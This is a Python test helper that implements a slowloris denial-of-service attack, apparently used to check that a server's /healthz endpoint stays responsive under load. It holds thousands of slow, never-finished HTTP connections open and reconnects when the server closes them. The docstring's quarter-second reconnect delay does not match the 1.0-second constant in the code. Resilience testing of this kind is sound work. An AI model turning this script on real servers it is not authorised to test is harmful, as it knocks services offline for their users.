"""A slowloris, run as its own process so that the test measuring /healthz does not share
an event loop (or a core's queue of work) with 2,000 attacking connections.

    python -m tests.api.slowloris HOST PORT CONNECTIONS

Each connection sends a partial request (request line and one header), then one more
header line every second, never the blank line that ends the headers. When the server
closes one, it comes back a quarter of a second later, as an attacker does. Every 100 ms
a line of JSON on stdout says how the attack stands: connections made so far, open now,
closed by the server. It runs until stdin closes.
"""

from __future__ import annotations

import asyncio
import json
import sys

REQUEST = b"GET /healthz HTTP/1.1\r\nHost: consentry\r\n"
TRICKLE = b"X-Slow: a\r\n"
COME_BACK_S = 1.0


class Attack:
    def __init__(self, host: str, port: int) -> None:
        self.host, self.port = host, port
        self.open: set[asyncio.Transport] = set()
        self.connected = 0
        self.closed_by_server = 0
        self.stopping = False

    async def connect(self) -> None:
        loop = asyncio.get_running_loop()
        while not self.stopping:
            try:
                await loop.create_connection(lambda: _Slow(self), self.host, self.port)
                return
            except OSError:
                await asyncio.sleep(COME_BACK_S)

    def lost(self, transport: asyncio.Transport) -> None:
        self.open.discard(transport)
        if not self.stopping:
            self.closed_by_server += 1
            asyncio.get_running_loop().call_later(COME_BACK_S, lambda: asyncio.ensure_future(self.connect()))

    def trickle(self) -> None:
        for transport in list(self.open):
            transport.write(TRICKLE)

    def report(self) -> None:
        state = {"connected": self.connected, "open": len(self.open), "closed_by_server": self.closed_by_server}
        sys.stdout.write(json.dumps(state) + "\n")
        sys.stdout.flush()


class _Slow(asyncio.Protocol):
    def __init__(self, attack: Attack) -> None:
        self.attack = attack

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = transport
        self.attack.connected += 1
        self.attack.open.add(transport)  # type: ignore[arg-type]
        transport.write(REQUEST)  # type: ignore[attr-defined]

    def connection_lost(self, exc: Exception | None) -> None:
        self.attack.lost(self.transport)  # type: ignore[arg-type]


async def main(host: str, port: int, connections: int) -> None:
    loop = asyncio.get_running_loop()
    attack = Attack(host, port)
    done = asyncio.Event()
    loop.add_reader(sys.stdin.fileno(), lambda: sys.stdin.buffer.read1(1 << 16) or done.set())
    for _ in range(connections):
        asyncio.ensure_future(attack.connect())
    tick = 0
    while not done.is_set():
        with_timeout = asyncio.wait_for(done.wait(), 0.1)
        try:
            await with_timeout
        except TimeoutError:
            pass
        tick += 1
        if tick % 10 == 0:
            attack.trickle()
        attack.report()
    attack.stopping = True
    for transport in list(attack.open):
        transport.abort()


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3])))
